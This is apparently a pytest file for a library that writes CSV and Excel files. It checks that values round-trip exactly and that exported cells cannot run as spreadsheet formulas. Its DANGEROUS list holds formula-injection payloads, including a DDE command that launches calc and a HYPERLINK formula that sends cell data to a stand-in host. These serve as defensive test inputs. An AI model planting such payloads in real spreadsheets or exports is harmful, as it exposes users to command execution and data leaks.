"""Files that are written: read again, their values are the same; and a spreadsheet runs nothing of them."""

import csv
import io
from typing import Any, BinaryIO, cast

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tabular.files import Format, open_rows
from tabular.mapping import mapping_of
from tabular.rows import RowTranslator
from tabular.spreadsheets import shield, unshield
from tabular.writing import Column, open_writer
from tabular.writing.columns import Kind, UnwritableError, cell_of, common_kind, kind_of

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "a;=1+1",
    "+86 138 0013 8000",
]
VALUES: dict[str, list[Any]] = {
    "city": ["上海", "New York", 'a,b"c\nd', None],
    "odd": [" spaces ", "", "tab\there", "\r\n"],
    "spelt": ["5", "true", "1.0", "_x0041_"],
    "count": [1, -5, 0, 999_999_999_999_999],
    "ratio": [1.5, 2, -0.25, None],
    "is_vip": [True, False, None, True],
    "mixed": [1, "1", True, None],
    "large": [2**60, 1e300, 1e-7, -0.0],
    "list": [["a", 1], [], None, [{"b": None}]],
    "object": [{"a": {"b": 1}}, {}, None, {"": ""}],
    "formula": DANGEROUS[:4],
    "formula_too": DANGEROUS[4:8],
    "more": DANGEROUS[8:12],
    "last": [*DANGEROUS[12:], None, "x"],
}


def written(kind: Format, values: dict[str, list[Any]]) -> tuple[bytes, dict[str, Kind]]:
    """Returns a file with a row for each place in the lists, and what its columns hold."""
    rows = len(next(iter(values.values())))
    texts = {
        name: [None if value is None else msgspec.json.encode(value).decode() for value in column]
        for name, column in values.items()
    }
    kinds: dict[str, Kind] = {}
    for name, column in texts.items():
        found: Kind | None = None
        for text in column:
            if text is not None:
                found = common_kind(found, kind_of(text))
        kinds[name] = found or Kind.TEXT
    raw = io.BytesIO()
    writer = open_writer(kind, raw, [Column("user_id"), *(Column(name, kinds[name]) for name in values)])
    for place in range(rows):
        cells = [texts[name][place] for name in values]
        writer.write(
            [
                [
                    f"u{place}",
                    *(
                        "" if text is None else cell_of(text, kinds[name])
                        for name, text in zip(values, cells, strict=True)
                    ),
                ]
            ]
        )
    writer.close()
    return raw.getvalue(), kinds


def read(content: bytes, kinds: dict[str, Kind]) -> list[dict[str, Any]]:
    """Returns the traits that an import makes of each row."""
    mapping = mapping_of(
        {
            "identifiers": {"user_id": {"column": "user_id"}},
            "traits": {name: {"column": name, "type": kind.value} for name, kind in kinds.items()},
            "file": {"apostrophes": True},
        }
    )
    file, _ = open_rows(cast(BinaryIO, io.BufferedReader(io.BytesIO(content))), mapping, whole=True)
    translator = RowTranslator(mapping, file.columns, "2026-10-01T00:00:00.000Z")
    found = []
    for row in file.rows():
        made = translator.translate(row.cells)
        assert isinstance(made, bytes), made
        found.append(msgspec.json.decode(made)["traits"])
    return found


@pytest.mark.parametrize("kind", list(Format))
def test_file_is_read_as_the_values_that_were_written(kind: Format) -> None:
    content, kinds = written(kind, VALUES)
    assert kinds["city"] is Kind.TEXT
    assert (kinds["count"], kinds["ratio"], kinds["is_vip"]) == (Kind.INTEGER, Kind.DECIMAL, Kind.BOOLEAN)
    assert (kinds["odd"], kinds["mixed"], kinds["large"]) == (Kind.JSON, Kind.JSON, Kind.JSON)
    wanted = [
        {name: column[place] for name, column in VALUES.items() if column[place] is not None} for place in range(4)
    ]
    found = read(content, kinds)
    assert found == wanted
    # 1 and true are equal, and are not the same.
    assert [[type(value) for value in row.values()] for row in found if "ratio" not in row] == [
        [type(value) for value in row.values()] for row in wanted if "ratio" not in row
    ]


SCALARS = st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.text(st.characters(codec="utf-8"), max_size=20)


@pytest.mark.parametrize("kind", list(Format))
@given(column=st.lists(SCALARS | st.lists(SCALARS, max_size=3), min_size=1, max_size=4))
def test_any_value_is_read_as_it_was_written(kind: Format, column: list[Any]) -> None:
    content, kinds = written(kind, {"value": column})
    assert [row.get("value") for row in read(content, kinds)] == column


@pytest.mark.parametrize("cell", DANGEROUS)
def test_csv_holds_nothing_that_a_spreadsheet_runs(cell: str) -> None:
    raw = io.BytesIO()
    writer = open_writer(Format.CSV, raw, [Column("name")])
    writer.write([[cell]])
    writer.close()
    content = raw.getvalue().decode("utf-8")
    assert content.startswith("\ufeff")
    ((shown,),) = list(csv.reader(io.StringIO(content, newline="")))[1:]
    assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
    # Every cell stands in quotes: so none begins in the middle of a text where semicolons part cells.
    assert content.split("\r\n", 1)[1].startswith('"')
    assert unshield(shown) == cell


@given(st.text(max_size=8) | st.from_regex(r"\A'{0,3}[=+@-].{0,4}\Z"))
def test_shield_is_undone(cell: str) -> None:
    assert unshield(shield(cell)) == cell


@pytest.mark.parametrize("number", ["-5", "+8613800138000", "-1.5e3"])
def test_numbers_stay_numbers(number: str) -> None:
    assert shield(number) == number


def test_workbook_holds_texts_and_no_formula() -> None:
    import openpyxl

    content, _ = written(Format.XLSX, {"value": DANGEROUS})
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert [sheet.cell(row, 2).data_type for row in range(2, len(DANGEROUS) + 2)] == ["s"] * len(DANGEROUS)


def test_workbook_is_refused_where_excel_would_cut_a_text() -> None:
    with pytest.raises(UnwritableError, match="32767"):
        written(Format.XLSX, {"value": ["x" * 32_768]})
    written(Format.CSV, {"value": ["x" * 32_768]})
